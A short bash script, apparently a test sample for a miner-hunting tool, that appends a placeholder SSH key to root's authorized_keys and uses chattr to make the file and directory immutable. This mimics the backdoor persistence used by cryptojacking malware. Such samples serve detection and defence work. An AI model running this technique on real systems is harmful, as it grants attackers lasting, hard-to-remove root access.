#!/bin/bash
mkdir -p /root/.ssh
chattr -ia /root/.ssh/authorized_keys 2>/dev/null
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDminehuntFakeKeyMaterialForTestsOnlyDoNotUse0000000000000000000000000000000000000000 root@localhost" >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
chattr +ia /root/.ssh/authorized_keys
chattr +i /root/.ssh
